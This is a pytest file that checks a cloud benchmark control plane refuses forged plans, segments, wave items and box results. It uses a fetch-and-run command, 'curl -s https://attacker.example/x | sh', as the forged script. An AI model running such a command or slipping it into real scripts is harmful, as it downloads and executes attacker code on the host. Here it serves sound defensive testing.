"""Control data a box cannot author: a plan kept in S3 must have the digest the execution input carries, every
segment the scheduler hands on must be one the plan's models and bounds accept, a Distributed Map wave's items must
keep their digest and its results must be their own boxes'. Each forgery below is refused with one line naming the
object (and its digest), before any segment is returned — so no box is started or sent a command."""

from __future__ import annotations

import copy
import json

import pytest

from analytics.store import LocalStore
from control_plane.control_data import (
    LANE_TIMEOUT_MAX_S,
    ControlDataError,
    canonical,
    check_segments,
    control_key,
    digest,
    write_new,
)
from control_plane.matrix_plan import Fleet
from control_plane.models import parse_request
from control_plane.plan import plan_run
from control_plane.waves import schedule
from tests.support.control_blobs import Blobs

RUN = "r-forge"
FORGED_SCRIPT = "curl -s https://attacker.example/x | sh"


@pytest.fixture(scope="module")
def matrix():
    req = parse_request(
        {
            "lanes": ["provenance", "preflight", "serve_sweep"],
            "server_configs": ["A"],
            "models": ["llama-3.1-8b-instruct"],
            "profile": "tiny",
            "max_cost_usd": 50,
            "matrix": {"instance_types": ["inf2.xlarge", "g6.xlarge", "g5.xlarge"]},
        }
    )
    return plan_run(req, run_id=RUN, results_uri="s3://bkt/results", fleet=Fleet(("subnet-a", "subnet-b")))


@pytest.fixture(scope="module")
def pinned():
    req = parse_request({"preset": "smoke", "profile": "tiny"})
    plan = plan_run(req, run_id=RUN, results_uri="s3://bkt/results")
    return plan.with_instances({"trn1": "i-0aaaaaaaaaaaaaaa1", "inf2": "i-0bbbbbbbbbbbbbbb2"})


@pytest.fixture
def store(tmp_path):
    return LocalStore(tmp_path / "store")


def stored(plan) -> tuple[Blobs, dict]:
    blobs = Blobs()
    key = control_key(RUN, "plan.json")
    plan_digest = write_new(blobs, key, canonical(plan.plan_document()))
    return blobs, plan.execution_input(f"s3://bkt/{key}", plan_digest)


def forge(doc: dict) -> dict:
    """What a compromised box would write: its script on every box, another instance, the largest type, years."""
    seg = doc["waves"][0]["segments"][0]
    seg["sync"]["script"] = FORGED_SCRIPT
    seg["instance_id"] = "i-0ffffffffffffffff"
    seg["instance_type"] = "trn1.32xlarge"
    seg["launch"]["template"] = "neuronpipe-fleet-trn1-32xlarge"
    for step in seg["lanes"]:
        step["timeout_s"] = 99_999_999
    return doc


def test_a_forged_plan_is_refused_naming_it_and_both_digests(matrix, store):
    blobs, data = stored(matrix)
    key = control_key(RUN, "plan.json")
    blobs.objects[key] = canonical(forge(json.loads(blobs.objects[key])))
    with pytest.raises(ControlDataError) as err:
        schedule({**data, "schedule": {"next_wave": 0}, "results": []}, store, blobs=blobs)
    message = str(err.value)
    assert f"plan s3://bkt/{key} has digest {digest(blobs.objects[key])}, not {data['plan_digest']}" in message
    assert store.usable_markers() == []  # nothing recorded, nothing scheduled


def test_a_plan_without_its_digest_or_of_another_run_is_refused(matrix, store):
    blobs, data = stored(matrix)
    with pytest.raises(ControlDataError, match="carries no digest"):
        schedule({**data, "plan_digest": None, "schedule": {"next_wave": 0}, "results": []}, store, blobs=blobs)
    with pytest.raises(ControlDataError, match="not this run's control object"):
        schedule(
            {
                **data,
                "plan_uri": "s3://bkt/results/fleet/r-forge/plan.json",
                "schedule": {"next_wave": 0},
                "results": [],
            },
            store,
            blobs=blobs,
        )


def test_a_planted_control_object_is_never_taken_for_the_plan(matrix):
    """Create-only: an object already at the plan's key with other bytes refuses the write (a retry with the same
    bytes is the writer's own)."""
    blobs = Blobs()
    key = control_key(RUN, "plan.json")
    blobs.objects[key] = b'{"waves": [], "nodes": []}'
    with pytest.raises(ControlDataError, match="exists with digest sha256:.*written by something other"):
        write_new(blobs, key, canonical(matrix.plan_document()))
    fresh = Blobs()
    first = write_new(fresh, key, canonical(matrix.plan_document()))
    assert write_new(fresh, key, canonical(matrix.plan_document())) == first


@pytest.mark.parametrize(
    "field,value,why",
    [
        ("sync.script", FORGED_SCRIPT, "sync.script is not one the plan renders"),
        ("lanes.0.script", "#!/bin/sh\n" + FORGED_SCRIPT, "script is not the one the plan renders"),
        ("lanes.0.timeout_s", 99_999_999, "beyond what a plan makes"),
        ("lanes.0.comment", "neuronpipe smoke other-run", "is not the plan's"),
        ("instance_id", "i-0ffffffffffffffff", "is not one of this execution's boxes"),
        ("run_id", "another-run", "is not this run's"),
        ("lanes.0.extra", "x", "Extra inputs are not permitted"),
    ],
)
def test_a_forged_segment_is_refused_naming_the_field(pinned, store, field, value, why):
    data = copy.deepcopy(pinned.execution_input())
    seg = data["waves"][0]["segments"][0]
    *path, last = field.split(".")
    target = seg
    for part in path:
        target = target[int(part)] if part.isdigit() else target[part]
    target[last] = value
    with pytest.raises(ControlDataError, match=why):
        schedule({**data, "schedule": {"next_wave": 0}, "results": []}, store)
    assert store.usable_markers() == []


def test_a_launch_from_another_types_template_is_refused(matrix):
    doc = matrix.plan_document()
    doc["waves"][0]["segments"][0]["launch"]["template"] = "neuronpipe-fleet-trn1-32xlarge"
    with pytest.raises(ControlDataError, match="is not a fleet template for"):
        check_segments(doc["waves"], RUN, [], "plan")


def test_what_the_planner_makes_passes(pinned, matrix):
    check_segments(pinned.execution_input()["waves"], RUN, pinned.execution_input()["boxes"], "input")
    check_segments(matrix.plan_document()["waves"], RUN, [], "plan")
    assert max(st.timeout_s for st in pinned.lane_steps) <= LANE_TIMEOUT_MAX_S


def _distributed(matrix, store):
    blobs, data = stored(matrix)
    first = schedule({**data, "schedule": {"next_wave": 0}, "results": []}, store, blobs=blobs, inline_max_bytes=1024)
    answer = {k: first[k] for k in ("next_wave", "box_failures", "stop_failed", "distributed")}
    return blobs, data, first["distributed"], answer


def test_forged_items_are_refused_after_the_wave(matrix, store):
    blobs, data, dist, answer = _distributed(matrix, store)
    items = json.loads(blobs.objects[dist["key"]])
    items[0]["sync"]["script"] = FORGED_SCRIPT
    blobs.objects[dist["key"]] = canonical(items)
    with pytest.raises(ControlDataError, match=f"wave items s3://bkt/{dist['key']} has digest sha256:"):
        schedule({**data, "schedule": answer, "results": []}, store, blobs=blobs)


@pytest.mark.parametrize(
    "result,why",
    [
        ({"box": "c02", "box_role": "inf2", "status": "completed", "lanes": []}, "names box 'c02', not 'c01'"),
        ({"box": "c01", "box_role": "inf2", "status": "won", "lanes": []}, "status 'won' is not one of"),
        (
            {
                "box": "c01",
                "box_role": "inf2",
                "status": "completed",
                "lanes": [{"result_lane": "serve_sweep@c02", "error": "Lane.X"}],
            },
            "is not one of box c01's lanes",
        ),
    ],
)
def test_a_forged_segment_result_is_refused(matrix, store, result, why):
    blobs, data, dist, answer = _distributed(matrix, store)
    blobs.objects[dist["results"]["c01"]] = json.dumps(result).encode()
    with pytest.raises(ControlDataError, match=why):
        schedule({**data, "schedule": answer, "results": []}, store, blobs=blobs)
